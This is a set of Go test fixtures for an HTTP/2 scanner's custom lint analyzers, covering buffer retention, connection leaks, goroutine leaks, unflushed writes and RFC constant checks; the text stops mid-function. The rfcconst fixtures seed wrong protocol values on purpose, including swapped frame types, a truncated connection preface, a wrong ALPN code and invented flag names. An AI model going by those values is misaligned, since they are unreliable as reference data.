// DataFrame mimics a DATA frame backed by recycled storage.
type DataFrame struct {
	H    Header
	Data []byte
}

// Header implements Frame.
func (f *DataFrame) Header() Header { return f.H }

// HeadersFrame mimics a HEADERS frame backed by recycled storage.
type HeadersFrame struct {
	H        Header
	Fragment []byte
}

// Header implements Frame.
func (f *HeadersFrame) Header() Header { return f.H }

// Framer mimics the recycling framer.
type Framer struct{}

// ReadFrame mimics the recycled read: the result is valid only until the
// next call.
func (fr *Framer) ReadFrame() (Frame, error) { return nil, nil }

// CopyPayload mimics the deep-copy escape hatch.
func CopyPayload(f Frame) Frame { return f }
