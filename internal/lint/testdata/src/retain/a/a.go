// Package a exercises the retain analyzer: aliases of recycled ReadFrame
// payloads escaping past the next ReadFrame are flagged; values laundered
// through CopyPayload, string conversions, or byte-wise spread appends pass.
package a

import (
	"h2scope/internal/lint/testdata/src/retain/internal/frame"
)

type sink struct {
	last     frame.Frame
	payload  []byte
	byStream map[uint32][]byte
}

// badStores plants the contract violations: recycled storage landing
// anywhere that outlives the read window.
func badStores(fr *frame.Framer, s *sink, out chan<- []byte) {
	f, err := fr.ReadFrame()
	if err != nil {
		return
	}
	s.last = f // want `recycled frame payload stored in a struct field`
	if d, ok := f.(*frame.DataFrame); ok {
		s.payload = d.Data                // want `stored in a struct field`
		s.byStream[d.H.StreamID] = d.Data // want `stored in a map or slice element`
		out <- d.Data                     // want `sent on a channel`
		go handle(d.Data)                 // want `passed to a goroutine`
		go func() { handle(d.Data) }()    // want `captured by a goroutine closure`
	}
}

// badLoopCarried plants the loop-carried escape: the alias survives into the
// next iteration, past the next ReadFrame.
func badLoopCarried(fr *frame.Framer) {
	var prev []byte
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		d, ok := f.(*frame.DataFrame)
		if !ok {
			continue
		}
		prev = d.Data // want `assigned to a variable that outlives the ReadFrame loop iteration`
		_ = prev
	}
}

// goodCopies shows the sanctioned escapes: deep copies detach from the
// recycled buffer before they land anywhere durable.
func goodCopies(fr *frame.Framer, s *sink, out chan<- []byte) {
	f, err := fr.ReadFrame()
	if err != nil {
		return
	}
	s.last = frame.CopyPayload(f) // CopyPayload launders the alias
	if d, ok := f.(*frame.DataFrame); ok {
		s.payload = append([]byte(nil), d.Data...) // spread append deep-copies the bytes
		s.byStream[d.H.StreamID] = append([]byte(nil), d.Data...)
		out <- append([]byte(nil), d.Data...)
		key := string(d.Data) // string conversion copies
		_ = key
		n := d.H.Length // scalar field copies by value
		_ = n
	}
}

// goodLoopLocal keeps every alias inside the iteration that read it.
func goodLoopLocal(fr *frame.Framer) {
	var total uint32
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		if d, ok := f.(*frame.DataFrame); ok {
			data := d.Data // loop-local alias dies with the iteration
			total += uint32(len(data))
		}
	}
}

// suppressedStore shows the escape hatch for a reviewed, deliberate
// retention: the directive must name the analyzer and carry a reason.
func suppressedStore(fr *frame.Framer, s *sink) {
	f, err := fr.ReadFrame()
	if err != nil {
		return
	}
	//h2lint:ignore retain single-frame framer; nothing overwrites the buffer after this read
	s.last = f
}

func handle([]byte) {}
