// Package a exercises the tracephase analyzer: phase closers must be
// invoked (the `defer tr.Phase("x")()` contract), and a begin whose end
// provably never runs is flagged.
package a

// tracer mimics trace.Tracer's phase API.
type tracer struct{}

// Phase begins a phase and returns its end closer.
func (tracer) Phase(name string) func() { return func() {} }

// Region begins a connection-scoped region and returns its end closer.
func (tracer) Region(conn uint64, name string) func() { return func() {} }

func runLater(f func()) { f() }

func goodDefer(tr tracer) {
	defer tr.Phase("settings")()
}

func goodExplicit(tr tracer) {
	end := tr.Phase("settings")
	end()
}

func goodDeferredVar(tr tracer) {
	end := tr.Phase("settings")
	defer end()
}

func goodHandedOff(tr tracer) {
	end := tr.Phase("settings")
	runLater(end)
}

func badDiscard(tr tracer) {
	tr.Phase("settings") // want `phase closer is discarded — the phase never ends`
}

func badDeferStart(tr tracer) {
	defer tr.Phase("settings") // want `defer runs the phase \*start\* at function exit`
}

func badBlank(tr tracer) {
	_ = tr.Phase("settings") // want `phase closer is assigned to _ — the phase never ends`
}

func goodRegion(tr tracer) {
	defer tr.Region(1, "dial")()
	end := tr.Region(1, "tls")
	end()
}

func badRegionDiscard(tr tracer) {
	tr.Region(1, "dial") // want `phase closer is discarded — the phase never ends`
}

func badRegionDeferStart(tr tracer) {
	defer tr.Region(1, "dial") // want `defer runs the phase \*start\* at function exit`
}
