// Package a exercises the connclose analyzer: leaked connections are
// flagged, while closes, returns, hand-offs, defer-closes, error-idiom nil
// paths, and wrapped connections all pass.
package a

import (
	"net"
	"time"
)

// fakeConn satisfies the analyzer's structural connection contract.
type fakeConn struct{}

func (c *fakeConn) Close() error                      { return nil }
func (c *fakeConn) SetDeadline(time.Time) error       { return nil }
func (c *fakeConn) SetReadDeadline(t time.Time) error { return nil }
func (c *fakeConn) RemoteAddr() net.Addr              { return nil }
func (c *fakeConn) Write(p []byte) (int, error)       { return len(p), nil }

func dial() (*fakeConn, error) { return &fakeConn{}, nil }

func newPair() (*fakeConn, *fakeConn) { return &fakeConn{}, &fakeConn{} }

// wrapConn takes a connection, so its result is a wrapper, not a fresh
// acquisition.
func wrapConn(c *fakeConn) (*fakeConn, error) { return c, nil }

func serve(c *fakeConn) {}

func leakOnSuccess() error {
	c, err := dial() // want `connection "c" obtained from dial is not closed on every path`
	if err != nil {
		return err
	}
	_, _ = c.Write([]byte("x"))
	return nil
}

func leakOnOnePath(cond bool) error {
	c, err := dial() // want `connection "c" obtained from dial is not closed on every path`
	if err != nil {
		return err
	}
	if cond {
		return c.Close()
	}
	return nil
}

func leakOutOfScope() {
	{
		c, _ := dial() // want `connection "c" obtained from dial goes out of scope while still open`
		_, _ = c.Write([]byte("x"))
	}
}

func leakInSelect(ch chan *fakeConn, done chan struct{}) *fakeConn {
	client, server := newPair() // want `connection "server" obtained from newPair is not closed on every path`
	select {
	case ch <- server:
		return client
	case <-done:
		_ = client.Close()
		return nil
	}
}

func closedOnAllPaths() error {
	c, err := dial()
	if err != nil {
		return err
	}
	_, _ = c.Write([]byte("x"))
	return c.Close()
}

func deferClosed() error {
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.Close()
	_, werr := c.Write([]byte("x"))
	return werr
}

func deferClosure() error {
	c, err := dial()
	if err != nil {
		return err
	}
	defer func() {
		_ = c.Close()
	}()
	return nil
}

func returned() (*fakeConn, error) {
	c, err := dial()
	return c, err
}

func handedOff() error {
	c, err := dial()
	if err != nil {
		return err
	}
	go serve(c)
	return nil
}

// errIdiom is the shape that dominates the real codebase: on the error
// path the connection is nil, so returning without a close is fine.
func errIdiom() error {
	c, err := dial()
	if err != nil {
		return err
	}
	err = c.SetDeadline(time.Time{})
	if err != nil {
		_ = c.Close()
		return err
	}
	return c.Close()
}

// wrapped is not tracked: wrapConn received the connection, so ownership
// stays with the caller's nc.
func wrapped(nc *fakeConn) error {
	tc, err := wrapConn(nc)
	if err != nil {
		return err
	}
	_, _ = tc.Write([]byte("x"))
	return nil
}
