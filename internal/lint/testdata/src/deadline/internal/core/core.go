// Package core is a golden-test double for h2scope/internal/core: the
// deadline analyzer matches it by package-path suffix.
package core

import (
	"context"
	"net"
	"time"
)

// conn satisfies the analyzer's structural connection contract.
type conn struct{}

func (c *conn) Close() error                      { return nil }
func (c *conn) SetDeadline(time.Time) error       { return nil }
func (c *conn) SetReadDeadline(t time.Time) error { return nil }
func (c *conn) RemoteAddr() net.Addr              { return nil }
func (c *conn) Write(p []byte) (int, error)       { return len(p), nil }

func dial() (*conn, error) { return &conn{}, nil }

// ProbeBare dials with neither a context nor a deadline.
func ProbeBare() error { // want `exported entry point ProbeBare performs network I/O without a context\.Context parameter`
	c, err := dial()
	if err != nil {
		return err
	}
	return c.Close()
}

// ProbeWriteBare writes on a supplied connection without bounding it.
func ProbeWriteBare(c *conn) error { // want `exported entry point ProbeWriteBare performs network I/O without a context\.Context parameter`
	_, err := c.Write([]byte("x"))
	return err
}

// ProbeCtx accepts a context, so the caller bounds it.
func ProbeCtx(ctx context.Context) error {
	c, err := dial()
	if err != nil {
		return err
	}
	return c.Close()
}

// ProbeSelfBounded sets its own deadline before the first write.
func ProbeSelfBounded(c *conn) error {
	if err := c.SetDeadline(time.Now().Add(time.Second)); err != nil {
		return err
	}
	_, err := c.Write([]byte("x"))
	return err
}

// Dial yields the connection, transferring deadline responsibility to the
// caller along with it.
func Dial() (*conn, error) {
	return dial()
}

// Summarize performs no network I/O at all.
func Summarize(n int) int { return n * 2 }

// probeHelper is unexported; the analyzer governs entry points only.
func probeHelper() error {
	c, err := dial()
	if err != nil {
		return err
	}
	return c.Close()
}
