// Package frame is a golden-test double for h2scope/internal/frame: the
// hotalloc analyzer roots its reachability walk at Framer.ReadFrame and
// Framer.WriteData matched by package-path suffix and receiver name.
package frame

import "fmt"

// Framer mimics the recycling framer with its retained buffers.
type Framer struct {
	buf []byte
}

// ReadFrame is a hot root: everything it reaches in this package is checked.
func (fr *Framer) ReadFrame() (any, error) {
	b := make([]byte, 9) // want `make\(\[\]T\) allocates in hot path \(reachable from Framer\.ReadFrame\)`
	if len(b) == 0 {
		// Cold early-exit block: error-path allocations are fine.
		return nil, fmt.Errorf("short header: %d", len(b))
	}
	fr.helper(b)
	return b, nil
}

// helper is hot only by reachability, not by name.
func (fr *Framer) helper(b []byte) {
	s := string(b) // want `\[\]byte-to-string conversion allocates in hot path \(reachable from Framer\.ReadFrame\)`
	_ = s
	_ = fmt.Sprintf("frame %d", len(b)) // want `fmt\.Sprintf allocates in hot path`
}

// WriteData is the second hot root.
func (fr *Framer) WriteData(p []byte) error {
	fr.buf = append(fr.buf, p...)  // amortized append to a retained buffer passes
	x := append([]byte(nil), p...) // want `append to a fresh slice allocates in hot path \(reachable from Framer\.WriteData\)`
	_ = x
	return nil
}

// Reset is unreachable from any hot root; its allocations are free.
func (fr *Framer) Reset() {
	fr.buf = make([]byte, 0, 64)
	_ = fmt.Sprintf("reset %p", fr)
}
