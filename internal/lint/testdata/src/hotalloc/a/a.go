// Package a exercises the //h2:hotpath directive side of the hotalloc
// analyzer: annotated functions become reachability roots; unannotated ones
// are free to allocate.
package a

var table = map[string]int{"settings": 1}

//h2:hotpath
func lookup(b []byte) int {
	return table[string(b)] // map-index conversion is elided by the compiler: no copy
}

//h2:hotpath
func convert(b []byte) string {
	return string(b) // want `\[\]byte-to-string conversion allocates in hot path \(reachable from convert\)`
}

//h2:hotpath
func concat(a, b string) string {
	return a + b // want `string concatenation allocates in hot path`
}

//h2:hotpath
func closes(n int) func() int {
	return func() int { return n } // want `closure literal allocates in hot path`
}

//h2:hotpath
func spawn(f func()) {
	go f() // want `goroutine launch allocates in hot path`
}

//h2:hotpath
func fresh() []int {
	return []int{1, 2, 3} // want `slice literal allocates in hot path`
}

//h2:hotpath
func boxy(n int) {
	logf("frames", n) // want `boxing into \.\.\.any allocates in hot path`
}

//h2:hotpath
func grown(dst []byte, b byte) []byte {
	//h2lint:ignore hotalloc amortized growth on the caller's buffer
	dst = append(dst, make([]byte, 4)...)
	return append(dst, b)
}

// cold allocates freely: no directive, not reachable from any root.
func cold(b []byte) string {
	return string(b) + "!"
}

func logf(msg string, args ...any) { _, _ = msg, args }
