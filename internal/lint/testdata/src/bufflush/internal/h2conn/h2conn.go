// Package h2conn is a golden-test double for h2scope/internal/h2conn's
// blocking waiter surface.
package h2conn

import "time"

// Event mimics the real event record.
type Event struct{}

// Conn mimics the real HTTP/2 client connection.
type Conn struct{}

// WaitFor blocks until pred holds or timeout.
func (c *Conn) WaitFor(timeout time.Duration, pred func([]Event) bool) ([]Event, error) {
	return nil, nil
}

// WaitSettings blocks for the peer's SETTINGS frame.
func (c *Conn) WaitSettings(timeout time.Duration) (Event, error) { return Event{}, nil }

// Ping blocks for the peer's PING ack.
func (c *Conn) Ping(payload [8]byte, timeout time.Duration) (time.Duration, error) { return 0, nil }
