// Package frame is a golden-test double for h2scope/internal/frame: the
// bufflush analyzer matches it by package-path suffix.
package frame

// Framer mimics the real Framer's buffered write surface.
type Framer struct{}

// WriteSettings mimics a buffered frame write.
func (f *Framer) WriteSettings() error { return nil }

// WriteData mimics a buffered frame write.
func (f *Framer) WriteData(streamID uint32, end bool, data []byte) error { return nil }

// WritePing mimics a buffered frame write.
func (f *Framer) WritePing(ack bool) error { return nil }

// Flush drains the write buffer to the wire.
func (f *Framer) Flush() error { return nil }

// ReadFrame blocks until the peer sends a frame.
func (f *Framer) ReadFrame() (any, error) { return nil, nil }
