// Package a exercises the bufflush analyzer: framer writes that can reach a
// blocking read with no intervening Flush are flagged; flushed, handed-off,
// and read-free paths pass.
package a

import (
	"time"

	"h2scope/internal/lint/testdata/src/bufflush/internal/frame"
	"h2scope/internal/lint/testdata/src/bufflush/internal/h2conn"
)

func badWriteThenRead(fr *frame.Framer) error {
	if err := fr.WriteSettings(); err != nil { // want `\(\*frame\.Framer\)\.WriteSettings may sit in the write buffer while \(\*frame\.Framer\)\.ReadFrame blocks`
		return err
	}
	_, err := fr.ReadFrame()
	return err
}

func goodWriteFlushRead(fr *frame.Framer) error {
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	if err := fr.Flush(); err != nil {
		return err
	}
	_, err := fr.ReadFrame()
	return err
}

func badWriteThenWait(fr *frame.Framer, c *h2conn.Conn) error {
	if err := fr.WritePing(false); err != nil { // want `\(\*frame\.Framer\)\.WritePing may sit in the write buffer while \(\*h2conn\.Conn\)\.WaitFor blocks`
		return err
	}
	_, err := c.WaitFor(time.Second, func([]h2conn.Event) bool { return true })
	return err
}

// flushAfter stands in for helpers that flush internally; the analyzer
// trusts the name.
func flushAfter(err error) error { return err }

func goodFlushHelperArg(fr *frame.Framer, c *h2conn.Conn) error {
	// The write is an argument, so it happens before the helper flushes.
	if err := flushAfter(fr.WritePing(false)); err != nil {
		return err
	}
	_, err := c.WaitSettings(time.Second)
	return err
}

// sendPreamble stands in for helpers handed the framer itself; ownership of
// the buffer goes with it.
func sendPreamble(fr *frame.Framer) error { return fr.Flush() }

func goodHandoff(fr *frame.Framer) error {
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	if err := sendPreamble(fr); err != nil {
		return err
	}
	_, err := fr.ReadFrame()
	return err
}

func goodWriteOnly(fr *frame.Framer, data []byte) error {
	if err := fr.WriteData(1, true, data); err != nil {
		return err
	}
	return fr.Flush()
}

// badLoopBackEdge writes at the bottom of a serve loop with no flush: the
// next iteration blocks in ReadFrame while the response sits in the buffer.
func badLoopBackEdge(fr *frame.Framer) error {
	for {
		if _, err := fr.ReadFrame(); err != nil {
			return err
		}
		if err := fr.WritePing(true); err != nil { // want `\(\*frame\.Framer\)\.WritePing may sit in the write buffer while \(\*frame\.Framer\)\.ReadFrame blocks`
			return err
		}
	}
}

// goodLoopFlushedTail is the serve-loop shape the server uses: every
// iteration ends with a flush before looping back to the blocking read.
func goodLoopFlushedTail(fr *frame.Framer) error {
	for {
		if _, err := fr.ReadFrame(); err != nil {
			return err
		}
		if err := fr.WritePing(true); err != nil {
			return err
		}
		if err := fr.Flush(); err != nil {
			return err
		}
	}
}

// goodDeferredRead ignores defers: they run at exit, outside the function's
// sequential write-then-wait flow.
func goodDeferredRead(fr *frame.Framer) error {
	defer fr.ReadFrame()
	return fr.WriteSettings()
}
