// Package a exercises the goroleak analyzer: goroutines that can block
// forever on local channels are flagged; buffered hand-offs, closed ranges,
// plain paired receives, and escaped channels pass.
package a

import "context"

// leakRecv plants the cancel-less blocked goroutine: nothing ever sends on
// or closes ch, so the receive blocks forever.
func leakRecv() {
	ch := make(chan int)
	go func() {
		v := <-ch // want `goroutine blocks receiving from channel ch, which this function never sends to or closes`
		_ = v
	}()
}

// leakAbandonedSender plants the select-abandonment leak: when ctx wins the
// race, the unbuffered sender blocks forever.
func leakAbandonedSender(ctx context.Context, work func() int) int {
	ch := make(chan int)
	go func() { ch <- work() }() // want `goroutine sends on unbuffered channel ch with no unconditional receive`
	select {
	case v := <-ch:
		return v
	case <-ctx.Done():
		return 0
	}
}

// leakRange plants the close-less range: the consumer never terminates.
func leakRange(items []int) {
	ch := make(chan int)
	go func() {
		for v := range ch { // want `goroutine ranges over channel ch, which this function never closes`
			_ = v
		}
	}()
	for _, it := range items {
		ch <- it
	}
}

// leakNamedCallee routes the leak through a named worker: channel-typed
// arguments are mapped onto the callee's parameters.
func leakNamedCallee() {
	ch := make(chan int)
	go pump(ch)
}

func pump(ch chan int) {
	for v := range ch { // want `goroutine ranges over channel ch, which this function never closes`
		_ = v
	}
}

// okBuffered is the scan-engine attempt pattern: a buffered result channel
// lets the sender complete even if the receiver gave up.
func okBuffered(ctx context.Context, work func() int) int {
	ch := make(chan int, 1)
	go func() { ch <- work() }()
	select {
	case v := <-ch:
		return v
	case <-ctx.Done():
		return 0
	}
}

// okClosedRange is the worker-pool pattern: the feeder closes the channel,
// so the ranging worker terminates.
func okClosedRange(items []int) {
	ch := make(chan int)
	go func() {
		for v := range ch {
			_ = v
		}
	}()
	for _, it := range items {
		ch <- it
	}
	close(ch)
}

// okPlainPair is the join pattern: an unconditional receive drains the
// unbuffered sender.
func okPlainPair(work func() int) int {
	ch := make(chan int)
	go func() { ch <- work() }()
	return <-ch
}

// okDoneClose is the detector stop pattern: the goroutine signals completion
// by closing, and closing never blocks.
func okDoneClose(work func()) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		work()
	}()
	<-done
}

// okEscaped hands the channel to code the analysis cannot see; the other
// side may well send, so nothing is flagged.
func okEscaped(register func(chan int)) {
	ch := make(chan int)
	register(ch)
	go func() {
		v := <-ch
		_ = v
	}()
}

// okGuardedInGoroutine gives the goroutine its own cancel path: a select
// with an alternative case is trusted.
func okGuardedInGoroutine(ctx context.Context) {
	ch := make(chan int)
	go func() {
		select {
		case v := <-ch:
			_ = v
		case <-ctx.Done():
		}
	}()
}

// suppressedLeak shows the escape hatch: a reviewed, deliberate leak with a
// reason attached.
func suppressedLeak() {
	ch := make(chan int)
	//h2lint:ignore goroleak fixture demonstrating the suppression directive
	go func() { v := <-ch; _ = v }()
}
