// Package fingerprint is the rfcconst golden positive for the TLS
// extension table: it seeds a wrong code, a non-registry name, and a
// missing constant, and expects one diagnostic for each.
package fingerprint

// ExtensionID is missing ExtRenegotiationInfo.
type ExtensionID uint16 // want `IANA TLS extension constant ExtRenegotiationInfo is not declared`

// ExtALPN carries SCT's code; ExtTelepathy is not a registry name.
const (
	ExtServerName           ExtensionID = 0
	ExtSupportedGroups      ExtensionID = 10
	ExtECPointFormats       ExtensionID = 11
	ExtSignatureAlgorithms  ExtensionID = 13
	ExtALPN                 ExtensionID = 18 // want `ExtALPN = 18, but IANA assigns 16`
	ExtSCT                  ExtensionID = 18
	ExtPadding              ExtensionID = 21
	ExtExtendedMasterSecret ExtensionID = 23
	ExtSessionTicket        ExtensionID = 35
	ExtPreSharedKey         ExtensionID = 41
	ExtSupportedVersions    ExtensionID = 43
	ExtPSKKeyExchangeModes  ExtensionID = 45
	ExtKeyShare             ExtensionID = 51
	ExtTelepathy            ExtensionID = 99 // want `ExtTelepathy is not an IANA TLS ExtensionType constant name`
)
