// Package frame is the rfcconst golden positive: it seeds a wrong value, a
// non-RFC name, a missing constant, a wrong wire number, and a corrupted
// preface, and expects one diagnostic for each.
package frame

// Type is the frame-type enum.
type Type uint8

// TypeData is deliberately swapped with TypeHeaders.
const (
	TypeData         Type = 0x1 // want `TypeData = 1, but RFC 7540 defines 0x0`
	TypeHeaders      Type = 0x0 // want `TypeHeaders = 0, but RFC 7540 defines 0x1`
	TypePriority     Type = 0x2
	TypeRSTStream    Type = 0x3
	TypeSettings     Type = 0x4
	TypePushPromise  Type = 0x5
	TypePing         Type = 0x6
	TypeGoAway       Type = 0x7
	TypeWindowUpdate Type = 0x8
	TypeContinuation Type = 0x9
)

// Flags is the frame-flag enum.
type Flags uint8

// FlagTurbo is not a name RFC 7540 defines.
const (
	FlagEndStream  Flags = 0x1
	FlagAck        Flags = 0x1
	FlagEndHeaders Flags = 0x4
	FlagPadded     Flags = 0x8
	FlagPriority   Flags = 0x20
	FlagTurbo      Flags = 0x40 // want `FlagTurbo is not an RFC 7540 Flags constant name`
)

// SettingID is missing SettingMaxHeaderListSize.
type SettingID uint16 // want `RFC 7540 SettingID constant SettingMaxHeaderListSize is not declared`

// SETTINGS parameters, one short.
const (
	SettingHeaderTableSize      SettingID = 0x1
	SettingEnablePush           SettingID = 0x2
	SettingMaxConcurrentStreams SettingID = 0x3
	SettingInitialWindowSize    SettingID = 0x4
	SettingMaxFrameSize         SettingID = 0x5
)

// ErrCode is the error-code enum (complete and correct).
type ErrCode uint32

// Error codes, RFC 7540 section 7.
const (
	ErrCodeNo                 ErrCode = 0x0
	ErrCodeProtocol           ErrCode = 0x1
	ErrCodeInternal           ErrCode = 0x2
	ErrCodeFlowControl        ErrCode = 0x3
	ErrCodeSettingsTimeout    ErrCode = 0x4
	ErrCodeStreamClosed       ErrCode = 0x5
	ErrCodeFrameSize          ErrCode = 0x6
	ErrCodeRefusedStream      ErrCode = 0x7
	ErrCodeCancel             ErrCode = 0x8
	ErrCodeCompression        ErrCode = 0x9
	ErrCodeConnect            ErrCode = 0xa
	ErrCodeEnhanceYourCalm    ErrCode = 0xb
	ErrCodeInadequateSecurity ErrCode = 0xc
	ErrCodeHTTP11Required     ErrCode = 0xd
)

// HeaderLen is off by one.
const HeaderLen = 8 // want `HeaderLen = 8, but RFC 7540 defines 9`

// ClientPreface is corrupted.
const ClientPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n" // want `ClientPreface does not match the RFC 7540 section 3\.5 preface`
