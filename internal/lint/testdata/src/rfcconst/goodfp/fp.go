// Package fingerprint is the rfcconst golden negative for the TLS
// extension table: a complete, correct ExtensionID vocabulary must
// produce no diagnostics.
package fingerprint

// ExtensionID is a TLS extension type code.
type ExtensionID uint16

// IANA "TLS ExtensionType Values" registry codes.
const (
	ExtServerName           ExtensionID = 0
	ExtSupportedGroups      ExtensionID = 10
	ExtECPointFormats       ExtensionID = 11
	ExtSignatureAlgorithms  ExtensionID = 13
	ExtALPN                 ExtensionID = 16
	ExtSCT                  ExtensionID = 18
	ExtPadding              ExtensionID = 21
	ExtExtendedMasterSecret ExtensionID = 23
	ExtSessionTicket        ExtensionID = 35
	ExtPreSharedKey         ExtensionID = 41
	ExtSupportedVersions    ExtensionID = 43
	ExtPSKKeyExchangeModes  ExtensionID = 45
	ExtKeyShare             ExtensionID = 51
	ExtRenegotiationInfo    ExtensionID = 0xff01
)
