// Package frame is the rfcconst golden negative: every protocol constant
// matches RFC 7540, so the analyzer must stay silent.
package frame

// Type is the frame-type enum.
type Type uint8

// Frame types, RFC 7540 section 6.
const (
	TypeData         Type = 0x0
	TypeHeaders      Type = 0x1
	TypePriority     Type = 0x2
	TypeRSTStream    Type = 0x3
	TypeSettings     Type = 0x4
	TypePushPromise  Type = 0x5
	TypePing         Type = 0x6
	TypeGoAway       Type = 0x7
	TypeWindowUpdate Type = 0x8
	TypeContinuation Type = 0x9
)

// Flags is the frame-flag enum.
type Flags uint8

// Frame flags, RFC 7540 section 6.
const (
	FlagEndStream  Flags = 0x1
	FlagAck        Flags = 0x1
	FlagEndHeaders Flags = 0x4
	FlagPadded     Flags = 0x8
	FlagPriority   Flags = 0x20
)

// SettingID is the SETTINGS-parameter enum.
type SettingID uint16

// SETTINGS parameters, RFC 7540 section 6.5.2.
const (
	SettingHeaderTableSize      SettingID = 0x1
	SettingEnablePush           SettingID = 0x2
	SettingMaxConcurrentStreams SettingID = 0x3
	SettingInitialWindowSize    SettingID = 0x4
	SettingMaxFrameSize         SettingID = 0x5
	SettingMaxHeaderListSize    SettingID = 0x6
)

// ErrCode is the error-code enum.
type ErrCode uint32

// Error codes, RFC 7540 section 7.
const (
	ErrCodeNo                 ErrCode = 0x0
	ErrCodeProtocol           ErrCode = 0x1
	ErrCodeInternal           ErrCode = 0x2
	ErrCodeFlowControl        ErrCode = 0x3
	ErrCodeSettingsTimeout    ErrCode = 0x4
	ErrCodeStreamClosed       ErrCode = 0x5
	ErrCodeFrameSize          ErrCode = 0x6
	ErrCodeRefusedStream      ErrCode = 0x7
	ErrCodeCancel             ErrCode = 0x8
	ErrCodeCompression        ErrCode = 0x9
	ErrCodeConnect            ErrCode = 0xa
	ErrCodeEnhanceYourCalm    ErrCode = 0xb
	ErrCodeInadequateSecurity ErrCode = 0xc
	ErrCodeHTTP11Required     ErrCode = 0xd
)

// Wire numbers checked by name when present.
const (
	HeaderLen                = 9
	DefaultMaxFrameSize      = 1 << 14
	MaxAllowedFrameSize      = 1<<24 - 1
	DefaultInitialWindowSize = 1<<16 - 1
	MaxWindowSize            = 1<<31 - 1
	DefaultHeaderTableSize   = 4096
	MaxStreamID              = 1<<31 - 1
)

// ClientPreface is the section 3.5 connection preface.
const ClientPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
