// Package h2conn is a golden-test double for h2scope/internal/h2conn.
package h2conn

import "time"

// Conn mimics the real HTTP/2 client connection's sender surface.
type Conn struct{}

// WriteGoAway mimics a frame sender.
func (c *Conn) WriteGoAway() error { return nil }

// OpenStream mimics the request opener.
func (c *Conn) OpenStream() (uint32, error) { return 1, nil }

// Ping mimics the ping sender.
func (c *Conn) Ping(payload [8]byte) (time.Duration, error) { return 0, nil }

// Close is uninteresting to uncheckederr.
func (c *Conn) Close() error { return nil }
