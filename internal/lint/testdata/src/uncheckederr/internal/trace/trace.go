// Package trace is a golden-test double for h2scope/internal/trace: the
// uncheckederr analyzer matches Tracer.Subscribe's *Subscription result by
// package-path suffix.
package trace

// Subscription mimics one live bus subscription.
type Subscription struct{}

// Close mimics detaching from the bus (no error to discard; the leak is the
// discarded Subscription itself).
func (s *Subscription) Close() {}

// Tracer mimics the event bus.
type Tracer struct{}

// Subscribe mimics attaching a new subscriber.
func (t *Tracer) Subscribe(buffer int) *Subscription { return &Subscription{} }
