// Package obs is a golden-test double for h2scope/internal/obs: the
// uncheckederr analyzer matches FlightRecorder by package-path suffix.
package obs

// Anomaly mimics the monitor's anomaly record.
type Anomaly struct{}

// Event mimics a trace event.
type Event struct{}

// FlightRecorder mimics the anomaly flight recorder.
type FlightRecorder struct{}

// Dump mimics writing one bounded forensic dump.
func (r *FlightRecorder) Dump(a Anomaly, events []Event) (string, error) { return "", nil }

// Close mimics sealing the recorder and writing its manifest.
func (r *FlightRecorder) Close() error { return nil }

// Dumps does not return an error and is never on the critical surface.
func (r *FlightRecorder) Dumps() int64 { return 0 }
