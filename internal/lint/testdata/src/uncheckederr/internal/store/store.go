// Package store is a golden-test double for h2scope/internal/store: the
// uncheckederr analyzer matches Writer by package-path suffix.
package store

// Record mimics one census record.
type Record struct{ Domain string }

// Writer mimics the JSON-lines result writer.
type Writer struct{}

// Append mimics a record write.
func (w *Writer) Append(rec *Record) error { return nil }

// Flush mimics draining buffered output.
func (w *Writer) Flush() error { return nil }
