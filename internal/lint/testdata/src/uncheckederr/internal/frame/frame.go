// Package frame is a golden-test double for h2scope/internal/frame: the
// uncheckederr analyzer matches it by package-path suffix.
package frame

// Framer mimics the real Framer's error-returning I/O surface.
type Framer struct{}

// WriteSettings mimics a frame write.
func (f *Framer) WriteSettings() error { return nil }

// WritePing mimics a frame write.
func (f *Framer) WritePing(ack bool) error { return nil }

// ReadFrame mimics a frame read.
func (f *Framer) ReadFrame() (any, error) { return nil, nil }

// Reset does not return an error and is never on the critical surface.
func (f *Framer) Reset() {}
