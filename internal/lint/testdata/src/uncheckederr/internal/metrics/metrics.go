// Package metrics is a golden-test double for h2scope/internal/metrics: the
// uncheckederr analyzer matches DebugServer by package-path suffix.
package metrics

// DebugServer mimics the live observability endpoint.
type DebugServer struct{}

// Close mimics stopping the sampler and the HTTP server.
func (ds *DebugServer) Close() error { return nil }

// Addr does not return an error and is never on the critical surface.
func (ds *DebugServer) Addr() string { return "" }
