// Package a exercises the uncheckederr analyzer: implicit discards of
// critical error returns are flagged, explicit `_ =` discards and handled
// errors pass.
package a

import (
	"fmt"
	"net"
	"net/http"
	"time"

	"h2scope/internal/lint/testdata/src/uncheckederr/internal/frame"
	"h2scope/internal/lint/testdata/src/uncheckederr/internal/h2conn"
	"h2scope/internal/lint/testdata/src/uncheckederr/internal/metrics"
	"h2scope/internal/lint/testdata/src/uncheckederr/internal/obs"
	"h2scope/internal/lint/testdata/src/uncheckederr/internal/store"
	"h2scope/internal/lint/testdata/src/uncheckederr/internal/trace"
)

func bad(nc net.Conn, fr *frame.Framer, hc *h2conn.Conn) {
	nc.SetDeadline(time.Time{})     // want `\(net\.Conn\)\.SetDeadline: error return is silently discarded`
	nc.SetReadDeadline(time.Time{}) // want `\(net\.Conn\)\.SetReadDeadline: error return is silently discarded`
	fr.WriteSettings()              // want `\(\*frame\.Framer\)\.WriteSettings: error return is silently discarded`
	fr.ReadFrame()                  // want `\(\*frame\.Framer\)\.ReadFrame: error return is silently discarded`
	hc.WriteGoAway()                // want `\(\*h2conn\.Conn\)\.WriteGoAway: error return is silently discarded`
	go fr.WritePing(false)          // want `go \(\*frame\.Framer\)\.WritePing: error return is silently discarded`
	defer hc.WriteGoAway()          // want `defer \(\*h2conn\.Conn\)\.WriteGoAway: error return is silently discarded`
	hc.Ping([8]byte{})              // want `\(\*h2conn\.Conn\)\.Ping: error return is silently discarded`
}

func good(nc net.Conn, fr *frame.Framer, hc *h2conn.Conn) error {
	_ = nc.SetDeadline(time.Time{}) // explicit discard is acknowledged
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	id, err := hc.OpenStream() // results consumed
	if err != nil {
		return err
	}
	fr.Reset()             // no error to drop
